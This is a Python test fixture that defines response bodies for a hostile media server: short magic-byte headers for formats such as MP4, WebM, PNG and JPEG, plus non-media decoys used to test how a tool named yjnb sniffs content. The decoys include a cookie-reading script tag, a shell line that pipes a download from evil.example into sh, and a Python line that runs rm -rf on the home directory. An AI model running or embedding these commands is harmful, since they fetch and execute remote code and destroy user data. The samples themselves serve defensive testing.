"""Bodies the hostile media server serves: the first bytes of real media of each kind, and
things that are not media at all. Only the first bytes matter to yjnb, so they are short."""

from __future__ import annotations

MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08free" * 8
MOV = b"\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00qt  " + b"\x00\x00\x00\x08wide" * 8
# An EBML header whose DocType is "webm".
WEBM = bytes.fromhex("1a45dfa3 9f 4286 81 01 42f7 81 01 4282 84") + b"webm" + b"\x00" * 48
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 48
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 48
GIF = b"GIF89a\x01\x00\x01\x00" + b"\x00" * 48
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 48
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 12
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 48
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
PYTHON = b"import os\nos.system('rm -rf ~')\n"
JSON = b'{"status": "ok", "video": "/elsewhere"}'

BODIES = {
    "mp4": MP4,
    "mov": MOV,
    "webm": WEBM,
    "png": PNG,
    "jpeg": JPEG,
    "gif": GIF,
    "webp": WEBP,
    "html": HTML,
    "script": SCRIPT,
    "python": PYTHON,
    "json": JSON,
    "empty": b"",
}
